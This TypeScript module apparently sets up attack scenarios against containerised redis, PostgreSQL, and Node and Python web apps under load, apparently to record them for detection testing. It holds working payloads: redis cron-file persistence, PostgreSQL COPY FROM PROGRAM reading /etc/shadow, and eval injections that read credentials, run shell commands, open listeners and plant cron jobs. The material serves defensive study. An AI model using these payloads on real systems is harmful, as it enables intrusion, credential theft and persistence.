import type { Engine } from '../containers/engine.ts';
import { acts, openShop } from '../containers/shop.ts';
import { openWebApplication, webApplications } from '../containers/web-applications.ts';
import { waitFor } from '../support/wait.ts';
import { query, talk } from './clients.ts';

/** A real workload under load that runs in a private engine, and an attack on it. */
interface RunningWorkload {
  /** The attack, through the workload itself: nothing is executed from outside. */
  attack(): Promise<void>;
  stopLoad(): void;
}

/** What a recording in this folder is made of. */
export interface RecordedWorkload {
  readonly name: string;
  /** Starts it; answers when it is under load. */
  start(engine: Engine): Promise<RunningWorkload>;
}

const sleep = (ms: number): Promise<void> => new Promise((done) => setTimeout(done, ms));

/** nginx, redis and a Perl application; the intruder comes in through a hole of the application. */
const shop: RecordedWorkload = {
  name: 'shop',
  async start(engine) {
    const running = await openShop(engine);
    running.startLoad();
    return {
      async attack() {
        for (const { command } of acts) {
          await running.exploit(command);
          await sleep(500);
        }
      },
      stopLoad: () => {
        running.stopLoad();
      },
    };
  },
};

/** Redis that anyone may ask; the intruder makes it write its database as a cron table (ATT&CK T1053.003). */
const redis: RecordedWorkload = {
  name: 'redis',
  async start(engine) {
    const image = await engine.debianImage();
    const arguments_ = ['--bind', '0.0.0.0', '--protected-mode', 'no', '--save', '5 10', '--dir', '/var/lib/redis'];
    const open = ['--enable-protected-configs', 'yes'];
    await engine.cli('run', '-d', '--name', 'queue', image, '/usr/bin/redis-server', ...arguments_, ...open);
    const host = await engine.cli('inspect', '-f', '{{.NetworkSettings.IPAddress}}', 'queue');
    await waitFor(
      'redis to answer',
      () =>
        talk(host, ['PING']).then(
          (answer) => answer.includes('PONG'),
          () => false,
        ),
      30_000,
    );
    let writes = 0;
    const timer = setInterval(() => {
      talk(host, [`SET key${writes++ % 100} value`, 'GET key1']).catch(() => undefined);
    }, 100);
    return {
      async attack() {
        await talk(host, [
          'CONFIG SET dir /etc/cron.d',
          'CONFIG SET dbfilename update',
          'SET job "\\n* * * * * root id\\n"',
          'SAVE',
        ]);
      },
      stopLoad: () => {
        clearInterval(timer);
      },
    };
  },
};

/** PostgreSQL with a table that is written and read; the intruder has its superuser run a program (ATT&CK T1059.004, CVE-2019-9193). */
const postgres: RecordedWorkload = {
  name: 'postgres',
  async start(engine) {
    const image = await engine.debianImage('postgresql');
    const cluster = '-D /var/lib/postgresql/15/main -c config_file=/etc/postgresql/15/main/postgresql.conf';
    const open = "-c hba_file=/tmp/hba -c listen_addresses='*' -c ssl=off";
    const begin = `echo host all all all trust > /tmp/hba; exec /usr/lib/postgresql/15/bin/postgres ${cluster} ${open}`;
    await engine.cli(
      'run',
      '-d',
      '--init',
      '--name',
      'orders',
      image,
      '/bin/su',
      'postgres',
      '-s',
      '/bin/sh',
      '-c',
      begin,
    );
    const host = await engine.cli('inspect', '-f', '{{.NetworkSettings.IPAddress}}', 'orders');
    const made = (): Promise<boolean> =>
      query(host, 'CREATE TABLE item (id serial, name text)').then(
        () => true,
        () => false,
      );
    await waitFor('postgres to answer', made, 60_000);
    const timer = setInterval(() => {
      query(host, "INSERT INTO item (name) VALUES ('x'); SELECT count(*) FROM item").catch(() => undefined);
    }, 100);
    return {
      async attack() {
        await query(
          host,
          "COPY item (name) FROM PROGRAM 'cat /etc/passwd /etc/shadow; cp /bin/true /tmp/update; /tmp/update'",
        ).catch(() => undefined);
      },
      stopLoad: () => {
        clearInterval(timer);
      },
    };
  },
};

/** A web application whose hole evaluates what it is sent (ATT&CK T1190, T1059): the intruder does what follows from within it. */
function application(name: 'node' | 'python', expressions: readonly string[]): RecordedWorkload {
  return {
    name,
    async start(engine) {
      const running = await openWebApplication(engine, webApplications[name], `${name}-shop`);
      running.startLoad();
      return {
        async attack() {
          for (const expression of expressions) {
            await running.exploit(expression);
            await sleep(500);
          }
        },
        stopLoad: () => {
          running.stopLoad();
        },
      };
    },
  };
}

/** By itself first, then a shell: accounts, environment, a connection out, a dropped program, a new listener. */
const node = application('node', [
  "require('fs').readFileSync('/etc/shadow', 'utf8').length",
  "require('fs').readFileSync('/proc/1/environ', 'utf8').length",
  "require('net').connect(4444, '127.0.0.1').on('error', () => {})",
  "require('child_process').execSync('id').length",
  "require('child_process').execSync('cp /bin/true /tmp/update && /tmp/update').length",
  "require('net').createServer().listen(4445, '0.0.0.0')",
]);

/** The same through Python, and a new account that never sleeps. */
const python = application('python', [
  "len(open('/etc/shadow').read())",
  "len(open('/proc/1/environ').read())",
  "__import__('socket').socket().connect_ex(('127.0.0.1', 4444))",
  "__import__('os').system('id')",
  "__import__('subprocess').call(['/bin/sh', '-c', 'cp /bin/true /tmp/update && /tmp/update'])",
  "open('/etc/cron.d/update', 'w').write('* * * * * root id\\n')",
]);

export const recordedWorkloads: readonly RecordedWorkload[] = [shop, redis, postgres, node, python];
